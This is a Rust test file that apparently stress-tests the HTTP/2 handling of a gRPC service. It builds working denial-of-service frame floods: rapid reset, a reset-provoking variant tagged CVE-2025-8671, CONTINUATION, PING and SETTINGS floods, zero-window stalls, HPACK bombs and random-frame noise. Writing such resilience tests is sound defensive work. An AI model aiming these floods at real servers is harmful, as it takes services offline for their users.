//! Abuse of HTTP/2, frame by frame.

use std::fmt;

use super::{
    flood::{Flooded, Script, flood},
    frames::{
        HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, More, call, continuation, data, frame, headers,
        literal, ping, priority, remembered, reset, settings, window_update,
    },
    trial::trial,
};

/// The most that a stream may be numbered.
const LAST_STREAM: u32 = (1 << 31) - 1;
/// Frames that are written at once.
const TOGETHER: usize = 64;

impl fmt::Display for Flooded {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { bytes, ended } = self;
        write!(f, "{} KiB on {ended} connections", bytes >> 10)
    }
}

/// The numbers of a caller's streams.
struct Streams(u32);

impl Streams {
    fn new() -> Self {
        Self(1)
    }

    fn next(&mut self) -> Option<u32> {
        let stream = self.0;
        self.0 = stream.checked_add(2)?;
        (stream <= LAST_STREAM).then_some(stream)
    }
}

/// Many of what `one` makes.
fn many(mut one: impl FnMut() -> Option<Vec<u8>> + Send) -> impl Script {
    move || {
        let frames: Option<Vec<_>> = (0..TOGETHER).map(|_| one()).collect();
        Some(frames?.concat())
    }
}

/// The same again and again.
fn same(bytes: &[u8]) -> impl Script + use<> {
    let together = bytes.repeat(TOGETHER);
    move || Some(together.clone())
}

/// After an opening of its own.
struct Opened<S> {
    opening: Vec<u8>,
    then: S,
}

impl<S: Script> Script for Opened<S> {
    fn opening(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.opening)
    }

    fn next(&mut self) -> Option<Vec<u8>> {
        self.then.next()
    }
}

fn score() -> Vec<u8> {
    call("ScoringService/ScoreCustomer")
}

/// A call that lists the models: no message is needed for a long answer.
fn list(stream: u32) -> Vec<u8> {
    let block = call("ModelService/ListModels");
    let message = data(stream, &[0; 5], More::Ends);
    [headers(stream, &block, More::Ends), message].concat()
}

#[tokio::test(flavor = "multi_thread")]
async fn calls_that_are_reset_at_once() {
    trial("rapid reset", |address, until| {
        flood(address, until, || {
            let (mut streams, block) = (Streams::new(), score());
            many(move || {
                let stream = streams.next()?;
                Some([headers(stream, &block, More::Ends), reset(stream)].concat())
            })
        })
    })
    .await;
}

/// Frames that make the server reset the stream (CVE-2025-8671).
#[tokio::test(flavor = "multi_thread")]
async fn calls_that_the_server_has_to_reset() {
    trial("made you reset", |address, until| {
        flood(address, until, || {
            let (mut streams, block) = (Streams::new(), score());
            many(move || {
                let stream = streams.next()?;
                let call = headers(stream, &block, More::Ends);
                Some([call, window_update(stream, 0)].concat())
            })
        })
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn more_calls_than_are_allowed() {
    trial("streams beyond the limit", |address, until| {
        flood(address, until, || {
            let (mut streams, block) = (Streams::new(), score());
            many(move || Some(headers(streams.next()?, &block, More::Ends)))
        })
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn headers_without_an_end() {
    trial("CONTINUATION flood", |address, until| {
        flood(address, until, || Opened {
            opening: [settings(&[]), headers(1, &score(), More::Follows)].concat(),
            then: same(&continuation(1, &literal("x", "y"), More::Follows)),
        })
    })
    .await;
    trial("empty CONTINUATION flood", |address, until| {
        flood(address, until, || Opened {
            opening: [settings(&[]), headers(1, &score(), More::Follows)].concat(),
            then: same(&continuation(1, &[], More::Follows)),
        })
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn frames_that_ask_for_an_answer() {
    for (name, bytes) in [("PING flood", ping()), ("SETTINGS flood", settings(&[]))] {
        trial(name, move |address, until| {
            flood(address, until, || same(&bytes))
        })
        .await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn frames_that_say_nothing() {
    let empty = data(1, &[], More::Follows);
    let unknown = frame(0xbe, 0, 0, &[0; 1024]);
    for (name, bytes) in [
        ("empty DATA flood", empty),
        ("PRIORITY flood", priority(1, 7)),
        ("unknown frames", unknown),
    ] {
        trial(name, move |address, until| {
            flood(address, until, || Opened {
                opening: [settings(&[]), headers(1, &score(), More::Ends)].concat(),
                then: same(&bytes),
            })
        })
        .await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn answers_that_are_not_taken() {
    trial("no window", |address, until| {
        flood(address, until, || {
            let mut streams = Streams::new();
            Opened {
                opening: settings(&[(INITIAL_WINDOW_SIZE, 0)]),
                then: many(move || Some(list(streams.next()?))),
            }
        })
    })
    .await;
    trial("a window of a byte", |address, until| {
        flood(address, until, || {
            let mut streams = Streams::new();
            Opened {
                opening: settings(&[(INITIAL_WINDOW_SIZE, 0)]),
                then: many(move || {
                    let stream = streams.next()?;
                    Some([list(stream), window_update(stream, 1)].concat())
                }),
            }
        })
    })
    .await;
    trial("a window that changes", |address, until| {
        flood(address, until, || {
            let changes = [0, 1 << 16, 1].map(|size| settings(&[(INITIAL_WINDOW_SIZE, size)]));
            Opened {
                opening: (0..100).flat_map(|call| list(2 * call + 1)).collect(),
                then: same(&changes.concat()),
            }
        })
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn headers_that_unpack_to_more() {
    const FIRST_REMEMBERED: u8 = 0x80 + 62;
    trial("HPACK bomb", |address, until| {
        flood(address, until, || {
            let mut streams = Streams::new();
            let mut first = score();
            first.extend(remembered("bomb", &"x".repeat(4000)));
            let mut opening = settings(&[(HEADER_TABLE_SIZE, u32::MAX)]);
            opening.extend(headers(streams.0, &first, More::Ends));
            streams.next();
            let block = [score(), vec![FIRST_REMEMBERED; 8000]].concat();
            Opened {
                opening,
                then: many(move || Some(headers(streams.next()?, &block, More::Ends))),
            }
        })
    })
    .await;
    trial("HPACK tables that change", |address, until| {
        flood(address, until, || {
            let mut streams = Streams::new();
            let mut counter = 0_u64;
            Opened {
                opening: settings(&[(HEADER_TABLE_SIZE, u32::MAX)]),
                then: many(move || {
                    counter += 1;
                    // To nothing, and back to 4096 bytes.
                    let sizes = vec![0x20, 0x3f, 0xe1, 0x1f];
                    let value = format!("{counter}{}", "x".repeat(2000));
                    let block = [sizes, score(), remembered("table", &value)].concat();
                    let stream = streams.next()?;
                    Some([headers(stream, &block, More::Ends), reset(stream)].concat())
                }),
            }
        })
    })
    .await;
}

/// Frames of any kind with bytes of any kind, and bytes that are no frames at all.
#[tokio::test(flavor = "multi_thread")]
async fn noise() {
    for (name, framed) in [("random frames", true), ("random bytes", false)] {
        trial(name, move |address, until| {
            flood(address, until, || {
                let mut random = Random(u64::from(framed) + 1);
                let mut first = true;
                move || {
                    // Most is the end of its connection.
                    if !std::mem::take(&mut first) && random.next().is_multiple_of(4) {
                        return None;
                    }
                    let bytes: Vec<u8> = (0..random.next() % 600)
                        .map(|_| random.next().to_le_bytes()[0])
                        .collect();
                    if !framed {
                        return Some(bytes);
                    }
                    let [kind, flags, stream, ..] = random.next().to_le_bytes();
                    let stream = u32::from(stream % 8);
                    Some(frame(kind % 12, flags, stream, &bytes))
                }
            })
        })
        .await;
    }
}

/// xorshift64: any noise will do, as long as it is the same each time.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}
